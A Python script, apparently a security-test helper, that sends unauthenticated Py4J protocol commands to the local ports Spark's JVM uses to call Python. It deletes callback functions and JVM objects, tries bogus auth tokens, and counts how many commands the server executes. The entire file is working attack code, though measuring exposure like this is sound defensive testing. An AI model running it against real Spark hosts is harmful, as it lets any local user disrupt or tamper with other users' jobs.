"""Attack the ports over which Spark's JVM calls Python, as any user of the machine could; the arguments are ports.

It prints how many commands were executed. Py4J's protocol: `c`, an object, a method, its arguments, `e`.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from collections.abc import Sequence

NOBODY = 65534
_SECONDS = 5.0
_PROXIES = 10
_OBJECTS = 1_500


def _answered(port: int, text: str) -> int:
    """Send commands, and return how many of them the server executed."""
    try:
        with socket.socket() as connection:
            connection.settimeout(_SECONDS)
            connection.connect(("127.0.0.1", port))
            connection.sendall(text.encode())
            connection.shutdown(socket.SHUT_WR)
            with connection.makefile("rb") as answers:
                return sum(line.startswith(b"!y") for line in answers)
    except OSError:
        return 0


def attack(port: int) -> int:
    """Delete the function of each object that the JVM calls, then make Python delete the JVM's objects."""
    done = sum(_answered(port, f"c\np{number}\n__delattr__\nsfunc\ne\n") for number in range(_PROXIES))
    taken = "".join(f"c\np0\ncall\nro{number}\nsx\ne\n" for number in range(_OBJECTS))
    return done + sum(_answered(port, text) for text in (taken, f"A\nwrong\n{taken}", "A\n\n" + taken))


def attacked(ports: Sequence[int]) -> int:
    """Attack as another user if this one is root; return how many commands were executed."""
    command = [sys.executable, "-I", __file__, *map(str, ports)]
    return int(subprocess.run(command, capture_output=True, text=True, check=True).stdout)


if __name__ == "__main__":
    if os.getuid() == 0:
        # Drop privileges after the start, because another user may not be able to run this Python.
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    print(sum(attack(int(port)) for port in sys.argv[1:]))
